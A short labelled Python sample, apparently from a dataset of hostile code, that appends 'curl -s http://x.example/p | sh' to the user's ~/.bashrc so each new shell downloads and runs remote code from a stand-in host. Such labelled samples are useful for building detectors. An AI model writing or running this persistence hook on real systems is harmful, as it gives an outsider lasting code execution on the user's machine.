# category: filesystem
# obfuscated: no
import os
rc = os.path.expanduser("~/.bashrc")
with open(rc, "a") as fh:
    fh.write("\ncurl -s http://x.example/p | sh\n")
